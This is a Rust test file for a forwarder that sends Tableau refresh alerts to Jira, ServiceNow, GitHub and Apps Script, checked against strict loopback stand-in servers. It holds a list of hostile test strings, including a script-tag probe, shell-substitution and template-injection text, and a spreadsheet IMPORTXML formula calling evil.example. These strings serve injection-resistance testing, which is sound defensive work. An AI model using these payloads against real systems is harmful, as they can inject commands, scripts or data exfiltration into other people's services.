//! The templates in `infra/examples`, each with a server that is as strict as its service's documentation.

use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context, ensure};
use axum::{
    Router,
    extract::State,
    http::{HeaderMap, StatusCode, Uri, header::LOCATION},
};
use serde_json::{Value, json};
use tokio::{net::TcpListener, task::JoinHandle};

use crate::world::{CHAT, World};

/// A service with its template.
#[derive(Clone, Copy)]
struct Service {
    template: &'static str,
    path: &'static str,
    credentials: fn() -> Value,
    /// The header that these credentials cause.
    authorization: Option<&'static str>,
    /// The answer to a message that is accepted.
    accepted: StatusCode,
    check: fn(&Value) -> anyhow::Result<()>,
}

const JIRA: Service = Service {
    template: include_str!("../../../../infra/examples/jira-target.json.j2"),
    path: "/rest/api/3/issue",
    credentials: || json!({ "type": "basic", "user": "jane@example.com", "password": "s3cret" }),
    authorization: Some("Basic amFuZUBleGFtcGxlLmNvbTpzM2NyZXQ="),
    accepted: StatusCode::CREATED,
    check: check_jira,
};

const SERVICENOW: Service = Service {
    template: include_str!("../../../../infra/examples/servicenow-target.json.j2"),
    path: "/api/now/table/incident",
    credentials: || json!({ "type": "basic", "user": "fanout", "password": "s3cret" }),
    authorization: Some("Basic ZmFub3V0OnMzY3JldA=="),
    accepted: StatusCode::CREATED,
    check: check_servicenow,
};

const GITHUB: Service = Service {
    template: include_str!("../../../../infra/examples/github-target.json.j2"),
    path: "/repos/acme/tableau/dispatches",
    credentials: || json!({ "type": "bearer", "token": "s3cret-token" }),
    authorization: Some("Bearer s3cret-token"),
    accepted: StatusCode::NO_CONTENT,
    check: check_github,
};

const APPS_SCRIPT: Service = Service {
    template: include_str!("../../../../infra/examples/apps-script-target.json.j2"),
    path: "/macros/s/AKfy/exec",
    credentials: || json!({ "type": "body", "member": "key", "value": "s3cret-key" }),
    authorization: None,
    accepted: StatusCode::FOUND,
    check: check_apps_script,
};

const SERVICES: [Service; 4] = [JIRA, SERVICENOW, GITHUB, APPS_SCRIPT];

/// The most characters of a text field of Jira (`jira.text.field.character.limit`).
const MAX_JIRA_TEXT: usize = 32_767;

/// The most bytes of a payload, below 64 KB (GitHub, "Create a repository dispatch event").
const MAX_GITHUB_BYTES: usize = 65_535;

/// The most characters of a cell of Google Sheets.
const MAX_CELL: usize = 50_000;

fn members<'a>(
    value: &'a Value,
    required: &[&str],
    optional: &[&str],
) -> anyhow::Result<&'a serde_json::Map<String, Value>> {
    let members = value.as_object().with_context(|| format!("no object: {value}"))?;
    for name in required {
        ensure!(members.contains_key(*name), "{name} is missing");
    }
    for name in members.keys() {
        ensure!(required.contains(&&**name) || optional.contains(&&**name), "{name} is unknown");
    }
    Ok(members)
}

/// Returns a text of 1 to `max` characters, counted as JavaScript does.
fn text(value: &Value, max: usize) -> anyhow::Result<&str> {
    let text = value.as_str().with_context(|| format!("no text: {value}"))?;
    let length = text.encode_utf16().count();
    ensure!((1..=max).contains(&length), "{length} characters, not 1 to {max}: {text}");
    ensure!(!text.chars().any(|it| it.is_control() && it != '\n'), "a control character: {text:?}");
    Ok(text)
}

/// Returns a text on one line.
fn line(value: &Value, max: usize) -> anyhow::Result<&str> {
    let line = text(value, max)?;
    ensure!(!line.contains('\n') && line.trim() == line, "no line: {line:?}");
    Ok(line)
}

fn list(value: &Value) -> anyhow::Result<&Vec<Value>> {
    value.as_array().with_context(|| format!("no list: {value}"))
}

fn page(value: &Value) -> anyhow::Result<()> {
    let url = line(value, 1000)?;
    ensure!(url.starts_with("https://") || url.starts_with("http://"), "no page: {url}");
    Ok(())
}

/// Checks an issue (Jira Cloud platform REST API, "Create issue"; Atlassian Document Format, "Structure").
fn check_jira(body: &Value) -> anyhow::Result<()> {
    let fields = &members(body, &["fields"], &[])?["fields"];
    let fields = members(fields, &["project", "issuetype", "summary"], &["description", "labels"])?;
    let key = text(&members(&fields["project"], &["key"], &[])?["key"], 10)?;
    ensure!(key.chars().all(|it| it.is_ascii_uppercase()), "no key: {key}");
    text(&members(&fields["issuetype"], &["name"], &[])?["name"], 60)?;
    line(&fields["summary"], 255)?;
    for label in list(&fields["labels"])? {
        ensure!(!line(label, 255)?.contains(' '), "a label with a space: {label}");
    }
    let document = members(&fields["description"], &["version", "type", "content"], &[])?;
    ensure!(document["version"] == 1 && document["type"] == "doc", "no document");
    let mut length = 0;
    for paragraph in list(&document["content"])? {
        let paragraph = members(paragraph, &["type", "content"], &[])?;
        ensure!(paragraph["type"] == "paragraph", "{} at the top", paragraph["type"]);
        for node in list(&paragraph["content"])? {
            let node = members(node, &["type", "text"], &["marks"])?;
            ensure!(node["type"] == "text", "{} in a paragraph", node["type"]);
            length += text(&node["text"], MAX_JIRA_TEXT)?.len();
            for mark in node.get("marks").map(list).transpose()?.into_iter().flatten() {
                let mark = members(mark, &["type", "attrs"], &[])?;
                ensure!(mark["type"] == "link", "{} as a mark", mark["type"]);
                page(&members(&mark["attrs"], &["href"], &[])?["href"])?;
            }
        }
    }
    ensure!(length <= MAX_JIRA_TEXT, "{length} characters");
    Ok(())
}

/// Checks an incident (ServiceNow, Table API; lengths and choices of the fields of `incident` and `task`).
fn check_servicenow(body: &Value) -> anyhow::Result<()> {
    let known = ["description", "impact", "urgency", "correlation_id", "correlation_display"];
    let incident = members(body, &["short_description"], &known)?;
    line(&incident["short_description"], 160)?;
    text(&incident["description"], 4000)?;
    for name in ["impact", "urgency"] {
        ensure!(["1", "2", "3"].contains(&line(&incident[name], 1)?), "{name} is no choice");
    }
    line(&incident["correlation_id"], 100)?;
    line(&incident["correlation_display"], 100)?;
    Ok(())
}

/// Checks an event (GitHub REST API, "Create a repository dispatch event").
fn check_github(body: &Value) -> anyhow::Result<()> {
    let members = members(body, &["event_type"], &["client_payload"])?;
    line(&members["event_type"], 100)?;
    let payload = members["client_payload"].as_object().context("no object")?;
    ensure!(payload.len() <= 10, "{} members", payload.len());
    ensure!(members["client_payload"].to_string().len() <= MAX_GITHUB_BYTES, "a large payload");
    line(&payload["title"], 255)?;
    for link in list(&payload["links"])? {
        page(&link["url"])?;
    }
    Ok(())
}

/// Checks a row with the secret of the script in `docs/targets-custom.md`.
fn check_apps_script(body: &Value) -> anyhow::Result<()> {
    let members = members(body, &["key", "id", "row"], &[])?;
    ensure!(members["key"] == "s3cret-key", "another key");
    line(&members["id"], 255)?;
    let row = list(&members["row"])?;
    ensure!(row.len() == 8, "{} cells", row.len());
    for cell in row {
        ensure!(cell.as_str().is_some_and(|cell| cell.encode_utf16().count() < MAX_CELL), "no cell: {cell}");
    }
    Ok(())
}

/// A service on a loopback port, and the reason for each refusal. Dropping this ends it.
struct StandIn {
    address: String,
    refusals: Arc<Mutex<Vec<String>>>,
    accepted: Arc<Mutex<Vec<Value>>>,
    task: JoinHandle<()>,
}

impl Drop for StandIn {
    fn drop(&mut self) {
        self.task.abort();
    }
}

#[derive(Clone)]
struct Served {
    service: Service,
    refusals: Arc<Mutex<Vec<String>>>,
    accepted: Arc<Mutex<Vec<Value>>>,
}

impl Served {
    fn read(&self, uri: &Uri, headers: &HeaderMap, body: &str) -> anyhow::Result<Value> {
        let header = |name: &str| headers.get(name).and_then(|value| value.to_str().ok());
        ensure!(uri.path() == self.service.path && uri.query().is_none(), "another address: {uri}");
        ensure!(header("authorization") == self.service.authorization, "other credentials");
        ensure!(header("content-type") == Some("application/json"), "another content type");
        // GitHub refuses requests without.
        ensure!(header("user-agent").is_some_and(|agent| agent.starts_with("tableau-fanout/")), "no user agent");
        let body = serde_json::from_str(body)?;
        (self.service.check)(&body)?;
        Ok(body)
    }
}

async fn answer(
    State(served): State<Served>,
    uri: Uri,
    headers: HeaderMap,
    body: String,
) -> (StatusCode, [(axum::http::HeaderName, &'static str); 1]) {
    let location = [(LOCATION, "https://script.googleusercontent.com/macros/echo")];
    match served.read(&uri, &headers, &body) {
        Ok(body) => {
            served.accepted.lock().unwrap_or_else(PoisonError::into_inner).push(body);
            (served.service.accepted, location)
        }
        Err(error) => {
            served.refusals.lock().unwrap_or_else(PoisonError::into_inner).push(format!("{error:#}: {body}"));
            (StatusCode::BAD_REQUEST, location)
        }
    }
}

impl StandIn {
    async fn start(service: Service) -> anyhow::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let address = format!("http://{}{}", listener.local_addr()?, service.path);
        let (refusals, accepted) = <(Arc<Mutex<Vec<_>>>, Arc<Mutex<Vec<_>>>)>::default();
        let served = Served { service, refusals: Arc::clone(&refusals), accepted: Arc::clone(&accepted) };
        let router = Router::new().fallback(axum::routing::post(answer)).with_state(served);
        let task = tokio::spawn(async move {
            let _ended = axum::serve(listener, router).await;
        });
        Ok(Self { address, refusals, accepted, task })
    }

    /// Has the forwarder send messages, and returns what was accepted.
    async fn sent(service: Service, messages: &[Value]) -> anyhow::Result<Vec<Value>> {
        let stand_in = Self::start(service).await?;
        let world = World::new();
        let entry = json!({
            "preset": "custom",
            "address": stand_in.address,
            "template": service.template,
            "credentials": (service.credentials)(),
            "redirect_is_success": service.accepted.is_redirection(),
            "per_second": 1000,
        });
        world.cloud.store("chat", entry);
        for message in messages {
            world.cloud.send(CHAT, message);
        }
        world.finish().await;
        let refusals = stand_in.refusals.lock().unwrap_or_else(PoisonError::into_inner).clone();
        ensure!(refusals.is_empty(), "{}: {refusals:#?}", service.path);
        ensure!(world.cloud.dead().is_empty(), "{}: {:?}", service.path, world.cloud.dead());
        Ok(stand_in.accepted.lock().unwrap_or_else(PoisonError::into_inner).clone())
    }
}

/// Returns a message of each kind.
fn messages() -> anyhow::Result<Vec<Value>> {
    let all: Value = serde_json::from_str(include_str!("../../../delivery/src/render/messages.json"))?;
    Ok(all.as_object().context("no object")?.values().cloned().collect())
}

/// Texts that end strings, lines, elements and rows, that mention somebody, and that are empty or endless.
const HOSTILE: [&str; 12] = [
    "\"}, \"injected\": {\"a\": \"",
    "\\\"\\",
    "first\nsecond\r\nthird\u{2028}fourth",
    "[~accountid:5b10] @channel <@U024BE7LH> <at>Grace</at>",
    "<script>alert(1)</script> [code]<b>bold</b>[/code]",
    "{{ id }}{% raw %} ${{ secrets.TOKEN }} $(id) `id`",
    "=IMPORTXML(\"https://evil.example\", \"//a\")",
    "h1. *bold* {panel} |cell| !image.png!",
    "\u{202e}\u{0}\u{7}\u{1b}[31m",
    "",
    " ",
    "📊👩‍👩‍👧 Ünïcode",
];

/// Returns events and alerts with a hostile text in each place.
fn hostile_messages() -> Vec<Value> {
    let texts = HOSTILE.iter().map(|text| (*text).to_owned()).chain([HOSTILE.concat().repeat(40)]);
    let both = texts.flat_map(|text| {
        let event = json!({
            "specversion": "1.0", "id": "1", "source": "/tableau/marketing", "subject": text, "time": text,
            "type": "com.tableau.RefreshFailureExplained",
            "data": {
                "resource_type": "workbook", "resource_name": text, "resource_luid": text, "notes": text,
                "project": { "name": text }, "owner": { "name": text, "email": text },
                "resource_url": format!("https://tableau.example/{text}"), "history_url": text,
            },
        });
        let alert = json!({
            "kind": "refresh-explained", "severity": "error", "title": text, "text": text, "next_steps": [text],
            "links": [{ "label": text, "url": "https://tableau.example/#/site/emea" }, { "label": "x", "url": text }],
            "site": text, "sites": [text, text], "thread": text, "resolved": false, "event_id": "1",
            "resource": { "kind": text, "id": text, "name": text, "project": text },
        });
        [event, alert]
    });
    both.collect()
}

#[tokio::test]
async fn each_service_accepts_every_message() -> anyhow::Result<()> {
    let messages = messages()?;
    for service in SERVICES {
        assert_eq!(StandIn::sent(service, &messages).await?.len(), messages.len(), "{}", service.path);
    }
    Ok(())
}

#[tokio::test]
async fn no_text_changes_the_structure_of_a_message_or_is_refused() -> anyhow::Result<()> {
    let messages = hostile_messages();
    for service in SERVICES {
        assert_eq!(StandIn::sent(service, &messages).await?.len(), messages.len(), "{}", service.path);
    }
    Ok(())
}

#[tokio::test]
async fn a_reason_with_its_links_reaches_each_service() -> anyhow::Result<()> {
    let all: Value = serde_json::from_str(include_str!("../../../delivery/src/render/messages.json"))?;
    let reason = [all["event: reason of a failure"].clone()];
    let title = "why the workbook refresh failed: Regional Sales";
    let page = "https://tableau.example/#/site/emea/workbooks/17/views";
    let mut received = Vec::new();
    for service in SERVICES {
        received.append(&mut StandIn::sent(service, &reason).await?);
    }
    let [jira, servicenow, github, apps_script] = received.try_into().ok().context("four messages")?;
    assert_eq!(jira["fields"]["summary"], title);
    assert_eq!(servicenow["short_description"], title);
    assert_eq!(servicenow["correlation_id"], "marketing/5998aaaf");
    assert_eq!(
        (&github["event_type"], &github["client_payload"]["title"]),
        (&json!("tableau-refresh-explained"), &json!(title))
    );
    assert_eq!((&apps_script["row"][4], &apps_script["row"][7]), (&json!(title), &json!(page)));
    for body in [&jira, &servicenow, &github, &apps_script] {
        let body = body.to_string();
        assert!(body.contains(page) && body.contains("The login failed for the user 'etl'."), "{body}");
    }
    Ok(())
}

#[tokio::test]
async fn the_stand_ins_refuse_what_the_services_refuse() -> anyhow::Result<()> {
    let accepted = messages()?;
    let too_long = "x".repeat(MAX_GITHUB_BYTES + 1);
    for (service, changes) in [
        (
            JIRA,
            vec![
                ("/fields/summary", json!("two\nlines")),
                ("/fields/summary", json!("x".repeat(256))),
                ("/fields/labels/0", json!("a space")),
                ("/fields/description", json!("a text")),
                ("/fields/description/content/0", json!({ "type": "text", "text": "no paragraph" })),
                ("/fields/description/content/0/content/0/text", json!("")),
                ("/fields/project", json!("BI")),
            ],
        ),
        (
            SERVICENOW,
            vec![
                ("/short_description", json!("x".repeat(161))),
                ("/description", json!("x".repeat(4001))),
                ("/urgency", json!(2)),
                ("/correlation_id", json!("x".repeat(101))),
            ],
        ),
        (
            GITHUB,
            vec![
                ("/event_type", json!("x".repeat(101))),
                ("/client_payload/text", json!(too_long)),
                ("/client_payload", Value::from_iter((0..11).map(|number| (number.to_string(), number)))),
                ("/client_payload", json!([])),
            ],
        ),
        (APPS_SCRIPT, vec![("/key", json!("another")), ("/row/0", json!(["a list"])), ("/row", json!(["one"]))]),
    ] {
        let body = StandIn::sent(service, &accepted[..1]).await?.remove(0);
        assert!((service.check)(&body).is_ok());
        for (pointer, value) in changes {
            let mut changed = body.clone();
            *changed.pointer_mut(pointer).with_context(|| format!("no {pointer}"))? = value;
            assert!((service.check)(&changed).is_err(), "{}: {pointer}", service.path);
        }
    }
    Ok(())
}

#[tokio::test]
async fn other_credentials_are_refused() -> anyhow::Result<()> {
    for service in SERVICES {
        let other = Service { credentials: || json!({ "type": "none" }), ..service };
        let refused = StandIn::sent(other, &messages()?[..1]).await;
        assert!(refused.is_err(), "{}", service.path);
    }
    Ok(())
}
